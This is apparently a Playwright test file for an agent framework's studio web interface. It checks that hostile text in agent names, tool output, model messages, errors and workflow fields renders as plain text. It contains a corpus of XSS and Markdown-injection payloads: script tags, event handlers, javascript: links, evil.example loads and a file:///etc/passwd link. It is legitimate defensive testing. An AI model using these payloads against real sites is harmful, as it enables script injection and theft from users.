import { ModelError } from "@reprise/contracts";
import type { Page } from "playwright-core";
import { defineAgent, definePlugin, defineState, defineTool, scriptedModel, suspendTool } from "reprise";
import { agentTools } from "reprise/plugins/agent-tools";
import { generativeUi } from "reprise/plugins/generative-ui";
import { defineWorkflow } from "reprise/workflow";
import { afterAll, beforeAll, expect, it } from "vitest";
import { z } from "zod";
import { describeWithService } from "../../test/support/describe-with-service.ts";
import { type OpenStudio, openScreen, openStudio } from "./support/open-studio.ts";

/** Ways by which text has become a program elsewhere. Each sets `owned` when it gets through, or loads something from `evil.example`. */
const CORPUS = [
  "<script>owned=1</script>",
  '<img src=x onerror="owned=1">',
  "<svg/onload=owned=1><svg><animate onbegin=owned=1 attributeName=x>",
  '"><script src="https://evil.example/a.js"></script>',
  "' onmouseover='owned=1' autofocus onfocus='owned=1",
  '<iframe srcdoc="<script>parent.owned=1</script>"></iframe>',
  "</textarea></title></style><script>owned=1</script>",
  "<details open ontoggle=owned=1>",
  '<a href="javascript:owned=1">here</a>',
  '<base href="https://evil.example/"><form action="https://evil.example/"><button>Go</button></form>',
  '<link rel=stylesheet href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  "<math><mtext><table><mglyph><style><img src=x onerror=owned=1>",
  "{{constructor.constructor('owned=1')()}} $\u007bowned=1}",
  "\u202egnp.exe \u0000 \ud800 \u2028owned=1",
].join("\n");

/** The same, in the ways of Markdown. */
const MARKDOWN = [
  "[a](javascript:owned=1)",
  "[b](JaVaScRiPt:owned=1)",
  "[c](java&#115;cript:owned=1)",
  "[d](\u0001javascript:owned=1)",
  "[e](java\tscript:owned=1)",
  "[f](data:text/html,<script>owned=1</script>)",
  "[g](vbscript:owned=1)",
  "[h](blob:https://evil.example/1)",
  "[i](file:///etc/passwd)",
  "[j](//evil.example/)",
  "<javascript:owned=1>",
  "![k](https://evil.example/k.png)",
  "![l](javascript:owned=1)",
  '![m](x" onerror="owned=1)',
  '[n](https://safe.example/ "title" onclick="owned=1")',
  "[o]: javascript:owned=1",
  "[o][o]",
  '```html" onload="owned=1\n<script>owned=1</script>\n```',
  "| a | <img src=x onerror=owned=1> |\n|---|---|\n| [p](javascript:owned=1) | ![q](https://evil.example/q.png) |",
].join("\n\n");

/** The corpus, and where it came from: every place must have been seen on a page. */
const SOURCES = new Set<string>();
function hostile(source: string): string {
  SOURCES.add(source);
  return `(${source}) ${CORPUS}`;
}
/** For names that are cut after some characters. */
function shortly(source: string): string {
  SOURCES.add(source);
  return `(${source})<img src=x onerror=owned=1>`;
}

const CATALOG = "https://a2ui.org/specification/v0_9/catalogs/basic/catalog.json";
const THREAD = `t"><img src=x onerror=owned=1>`;

describeWithService("chromium", "hostile text in the studio", ({ binary }) => {
  let opened: OpenStudio;
  let runs: readonly string[];
  let failed: string;
  let flow: string;
  /** Lets the slow tool end. */
  const held = Promise.withResolvers<void>();
  beforeAll(async () => {
    const notes = defineState({
      path: "notes",
      initial: (): Record<string, string> => ({}),
      actions: { add: (all, [key, value]: readonly [string, string]) => ({ ...all, [key]: value }) },
    });
    const read = defineTool({
      id: "read",
      description: hostile("tool description"),
      inputSchema: z.record(z.string(), z.string()),
      execute(_, { state }) {
        state.apply(notes.add([shortly("state key"), hostile("state value")]));
        return { [shortly("result key")]: hostile("result value") };
      },
    });
    const slow = defineTool({
      id: "slow",
      description: "Takes its time.",
      async execute(_, { progress }) {
        progress({ progress: 0.5, message: hostile("progress") });
        await held.promise;
        return "ready";
      },
    });
    const waiting = defineAgent({
      id: "waiting",
      tools: [slow],
      model: scriptedModel(({ messages }) => (messages.at(-1)?.role === "user" ? [{ call: "slow" }] : "Ready.")),
    });
    const breaks = defineTool({
      id: "breaks",
      description: "Fails.",
      execute() {
        throw new Error(hostile("tool error"));
      },
    });
    const asks = defineTool({
      id: "asks",
      description: "Asks.",
      inputSchema: z.object({ about: z.string() }),
      execute: () => suspendTool({ action: "ask", message: hostile("question") }),
    });
    const below = defineAgent({
      id: "below",
      name: shortly("sub-agent name"),
      model: scriptedModel(() => [{ text: `${hostile("text of a sub-agent")}\n\n${MARKDOWN}` }]),
    });
    const parts = definePlugin({
      id: "parts",
      parts: () => [
        {
          kind: "mcp_server",
          name: shortly("server name"),
          state: "failed",
          message: hostile("server message"),
          details: { tools: [] },
        },
      ],
    });
    const surface = [
      { version: "v0.9", createSurface: { surfaceId: "form", catalogId: CATALOG } },
      {
        version: "v0.9",
        updateComponents: {
          surfaceId: "form",
          components: [
            { id: "root", component: "Column", children: ["text", "near", "far", "field"] },
            { id: "text", component: "Text", text: `${hostile("surface text")}\n\n${MARKDOWN}` },
            { id: "near", component: "Image", url: "javascript:owned=1" },
            { id: "far", component: "Image", url: "https://evil.example/far.png" },
            { id: "field", component: "TextField", label: shortly("surface label"), value: { path: "/name" } },
          ],
        },
      },
    ];
    const talker = defineAgent({
      id: "talker",
      name: shortly("agent name"),
      description: hostile("agent description"),
      instructions: hostile("instructions"),
      tools: [read, breaks, asks],
      plugins: [agentTools(), generativeUi(), parts],
      model: scriptedModel(({ messages }) => {
        const turn = messages.filter(({ role }) => role === "assistant").length;
        if (turn === 0)
          return [
            { reasoning: hostile("reasoning") },
            { text: `${hostile("model text")}\n\n${MARKDOWN}` },
            { call: "read", arguments: { [shortly("argument key")]: hostile("argument value") } },
            { call: "breaks" },
            { call: "render_a2ui", arguments: { messages: surface } },
            { call: "agent_run", arguments: { agent_id: "below", prompt: hostile("prompt of a sub-agent") } },
          ];
        if (turn === 1)
          return [
            { file: "javascript:owned=1", mediaType: "image/png" },
            { file: "https://evil.example/model.png", mediaType: "image/png" },
            { call: "asks", arguments: { about: hostile("question argument") } },
          ];
        return "Done.";
      }),
    });
    const breaking = defineAgent({
      id: "breaking",
      model: {
        id: "breaking",
        // biome-ignore lint/correctness/useYield: this model never says anything.
        async *stream() {
          throw new ModelError("invalid_request", hostile("model error"));
        },
      },
    });
    const workflow = defineWorkflow({
      schema_version: "1.0",
      workflow: {
        id: "flow",
        name: shortly("workflow name"),
        description: hostile("workflow description"),
        inputs: [{ name: "word", type: "string", default: "a", description: hostile("input description") }],
        nodes: [
          { id: "step", type: "transform", name: shortly("node name"), expression: "inputs.word" },
          { id: "gate", type: "human_gate", gate_type: "approval", message_template: shortly("gate message") },
        ],
        edges: [{ from: "step", to: "gate" }],
      },
    });
    opened = await openStudio(binary, [talker, below, breaking, waiting, workflow]);
    const { runtime } = opened;
    const ask = async (agent: string, threadId: string): Promise<string> => {
      const run = await runtime.submit({
        agent_id: agent,
        thread_id: threadId,
        metadata: { note: "kept" },
        messages: [
          {
            id: `${agent}-said`,
            role: "user",
            content: [
              { type: "text", text: hostile("user text") },
              { type: "file", url: "javascript:owned=1", media_type: "text/html", filename: shortly("file name") },
              { type: "image", url: "https://evil.example/user.png", media_type: "image/png", filename: "far.png" },
            ],
          },
        ],
      });
      await run.outcome();
      return run.id;
    };
    runs = [await ask("talker", THREAD), await ask("talker", "plain")];
    // A run that is over shows the exact requests to its model.
    const [, over = ""] = runs;
    for (const { id, run_id } of await runtime.decisions.list())
      if (run_id === over) await runtime.decisions.decide(id, { action: "deny", reason: hostile("reason") });
    await (await runtime.run(over)).outcome();
    failed = await ask("breaking", "failed");
    const started = await fetch(`${opened.url}/v1/workflows/flow/runs`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ inputs: { word: hostile("workflow input") } }),
    });
    flow = (await started.json()).run_id;
    await (await runtime.run(flow)).outcome();
    await runtime.start({ agent: "waiting", threadId: "live", input: "Begin." });
  }, 120_000);
  afterAll(async () => {
    held.resolve();
    await opened.close();
  }, 60_000);

  it("is text on every screen: no program runs, no address is loaded, and no link leads to one that runs", async () => {
    const [first = "", second = ""] = runs;
    const items = await opened.runtime.decisions.list();
    expect(items.length).toBeGreaterThanOrEqual(2);
    const paths = [
      "/",
      `/threads/${encodeURIComponent(THREAD)}`,
      `/threads/${encodeURIComponent(THREAD)}?at=2`,
      "/threads/failed",
      "/threads/live",
      "/inbox",
      ...items.map(({ id }) => `/inbox/${encodeURIComponent(id)}`),
      "/runs",
      `/runs/${first}`,
      `/runs/${second}`,
      `/runs/${failed}`,
      `/compare/${first}/${second}`,
      "/agents",
      "/agents/talker",
      "/agents/below",
      "/workflows",
      "/workflows/flow",
      `/workflow-runs/${flow}`,
      `/workflow-runs/${flow}?node=step`,
      `/workflow-runs/${flow}?node=gate`,
      "/ops/spend",
      "/ops/processes",
      "/ops/latency",
      "/ops/queues",
      `/runs/${encodeURIComponent(shortly("address"))}`,
      `/runs?word=${encodeURIComponent(shortly("address"))}`,
    ];
    SOURCES.delete("address");
    const unseen = new Set(SOURCES);
    const page = await openScreen(opened, "/", { expected: /status of (404|409)/ });
    const elsewhere: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(opened.url) && !/^(blob|data):/.test(request.url())) elsewhere.push(request.url());
    });
    page.on("dialog", (dialog) => {
      elsewhere.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    const problems: string[] = [];
    const look = async (where: string): Promise<void> => {
      const { text, found } = await inspect(page);
      for (const source of unseen) if (text.includes(`(${source})`)) unseen.delete(source);
      for (const problem of found) problems.push(`${where}: ${problem}`);
    };
    for (const path of paths) {
      await page.goto(opened.url + path);
      await page.locator("#main :is(h1, h2)").first().waitFor({ state: "attached" });
      await page.getByRole("status", { name: "Loading" }).first().waitFor({ state: "detached" });
      if (path === "/threads/live") await page.getByText("(progress)").first().waitFor();
      if (path === `/runs/${second}`) {
        await page
          .getByRole("button", { name: /^Step 1 · / })
          .first()
          .click();
        const details = page.getByRole("region", { name: "Details of Step 1" });
        await details.getByText("(instructions)").first().waitFor();
      }
      await look(path);
      await openAll(page);
      await look(`${path}, opened`);
      for (const name of await page.getByRole("tab").allTextContents()) {
        await page.getByRole("tab", { name: name.trim(), exact: true }).first().click();
        await openAll(page);
        await look(`${path}, ${name}`);
      }
    }
    expect(problems).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect([...unseen]).toEqual([]);
  }, 180_000);
});

/** Opens what is folded, so that it is looked at too. */
async function openAll(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const details of document.querySelectorAll("details")) details.open = true;
  });
  // What a fold draws once it is open comes with the next frames.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
}

/** The text of a page, also in fields and attributes that are read out, and everything in it that could run or load something. */
function inspect(page: Page): Promise<{ readonly text: string; readonly found: readonly string[] }> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ("owned" in window) found.push("a program ran");
    const own = location.origin;
    const texts = [document.body.textContent ?? "", document.title];
    for (const element of document.querySelectorAll("*")) {
      const name = element.tagName.toLowerCase();
      if (["iframe", "object", "embed", "base", "audio", "video", "math", "animate"].includes(name))
        found.push(element.outerHTML.slice(0, 200));
      if (element instanceof HTMLTextAreaElement || element instanceof HTMLInputElement) texts.push(element.value);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith("on") || attribute === "srcdoc") found.push(element.outerHTML.slice(0, 200));
        if (["title", "aria-label", "placeholder"].includes(attribute)) texts.push(value);
        if (!["href", "src", "action", "formaction", "xlink:href", "data", "poster"].includes(attribute)) continue;
        const { protocol, origin } = new URL(value, location.href);
        // A person may follow a link to elsewhere; nothing else may lead there.
        const isLink = name === "a" && (protocol === "https:" || protocol === "http:");
        const isSafe = origin === own || (name === "img" && (protocol === "blob:" || protocol === "data:"));
        if (!isLink && !isSafe) found.push(element.outerHTML.slice(0, 200));
        if (isLink && origin !== own && element.getAttribute("rel")?.includes("noopener") !== true)
          found.push(`without noopener: ${element.outerHTML.slice(0, 200)}`);
      }
    }
    return { text: texts.join("\n"), found };
  });
}
